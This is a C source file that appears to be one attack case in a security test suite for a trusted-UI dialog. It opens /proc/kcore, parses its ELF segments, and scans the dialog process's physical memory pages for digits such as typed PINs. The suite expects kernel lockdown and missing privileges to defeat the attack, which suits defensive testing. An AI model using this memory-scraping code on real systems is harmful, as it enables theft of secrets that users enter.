// SPDX-License-Identifier: Apache-2.0
/*
 * Looks up where the dialog's memory is and reads it out of the kernel's (/proc/kcore).
 *
 * attack: kcore_reads_tui
 * class: system
 * when: session
 * judge: keys
 * defence: boot
 * why: all memory is in /proc/kcore, for CAP_SYS_RAWIO; lockdown shuts it, and the REE lacks the capability
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "process.h"
#include "report.h"

#define SEGMENTS_MAX 64

static Elf64_Phdr segments[SEGMENTS_MAX];
static unsigned int count;

static int read_segments(int fd)
{
	Elf64_Ehdr head;

	if (pread(fd, &head, sizeof(head), 0) != sizeof(head))
		return errno ? -errno : -EIO;
	count = head.e_phnum < SEGMENTS_MAX ? head.e_phnum : SEGMENTS_MAX;
	if (pread(fd, segments, count * sizeof(*segments), (off_t)head.e_phoff) !=
	    (ssize_t)(count * sizeof(*segments)))
		return -EIO;
	return 0;
}

/* Reads physical memory through whatever segment says that it maps it. */
static int read_physical(int fd, uint64_t address, void *buf, size_t size)
{
	unsigned int i;

	for (i = 0; i < count; i++) {
		const Elf64_Phdr *p = &segments[i];

		if (p->p_type != PT_LOAD || p->p_paddr == (Elf64_Addr)-1 || address < p->p_paddr ||
		    address + size > p->p_paddr + p->p_filesz)
			continue;
		if (pread(fd, buf, size, (off_t)(p->p_offset + address - p->p_paddr)) == (ssize_t)size)
			return 0;
	}
	return -EIO;
}

struct search {
	int core;
	unsigned int pages, failed;
};

static void look(uint64_t physical, void *context)
{
	struct search *s = context;
	char page[PROCESS_PAGE];

	s->pages++;
	if (read_physical(s->core, physical, page, sizeof(page)))
		s->failed++;
	else
		process_report_digits(page, sizeof(page));
}

int main(void)
{
	struct search s = { 0 };
	pid_t tui;
	int ret;

	attack_init();
	s.core = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
	ret = s.core < 0 ? -errno : read_segments(s.core);
	attack_ready();
	if (ret)
		attack_failed("/proc/kcore: %s", strerror(-ret));
	tui = process_wait_tui();
	while (!attack_wait(300) && !process_physical_pages(tui, look, &s))
		;
	attack_failed("looked at %u pages, %u of them could not be read", s.pages, s.failed);
}
